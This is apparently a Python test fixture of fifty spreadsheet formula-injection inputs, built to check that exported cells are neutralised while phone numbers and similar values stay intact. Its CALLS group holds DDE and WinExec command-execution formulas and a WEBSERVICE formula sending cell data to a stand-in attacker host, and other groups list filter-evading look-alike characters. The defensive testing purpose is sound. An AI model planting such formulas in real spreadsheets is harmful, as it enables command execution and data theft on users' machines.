"""What somebody types who wants an officer's spreadsheet to do something."""

EQUALS = ("=1+1", "=A1", "= 1+1", " =1+1", "\t=1+1", "\n=1+1", "'=1+1", '"=1+1"', "=\n1+1", "==1")
SIGNS = ("+1+1", "-1+1", "@SUM(A1:A9)", "+A1", "-A1", "@A1", "|A1", "%0A=1+1", ";=1+1", ",=1+1")
CALLS = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example","Қараңыз")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    '=DDE("cmd";"/C calc";"a")',
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "{=SUM(A1:A9)}",
    '=CALL("kernel32","WinExec")',
)
LOOK_ALIKES = (
    "＝1+1",
    "﹦1+1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "_x003D_1+1",
    "_x000D_=1+1",
    "&equals;1+1",
    "&#61;1+1",
    "<f>1+1</f>",
)
WHAT_IS_NO_NUMBER = (
    "+77011234567",
    "87011234567",
    "0012",
    "1e5",
    "1/2",
    "TRUE",
    "#N/A",
    "http://evil.example",
    "mailto:a@evil.example",
    "internal:Sheet1!A1",
)
PAYLOADS = (*EQUALS, *SIGNS, *CALLS, *LOOK_ALIKES, *WHAT_IS_NO_NUMBER)
"""Fifty of them (reliability P22); phones and the like must stay what they are, too."""
